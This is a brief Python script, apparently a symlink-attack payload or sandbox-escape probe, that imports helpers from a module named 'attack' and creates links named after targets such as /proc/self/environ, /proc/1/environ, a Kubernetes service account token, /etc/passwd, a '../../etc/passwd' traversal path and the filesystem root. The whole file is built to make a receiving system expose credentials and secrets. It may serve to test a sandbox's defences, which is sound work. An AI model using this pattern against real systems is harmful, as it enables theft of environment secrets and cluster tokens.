from attack import leave, link

leave("good.txt")
goals = {
    "environ": "/proc/self/environ",
    "runner": "/proc/1/environ",
    "order": "/run/fumehood/order.json",
    "token": "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "passwd": "/etc/passwd",
    "parent": "../../etc/passwd",
    "root": "/",
}
for name, goal in goals.items():
    link(goal, name)
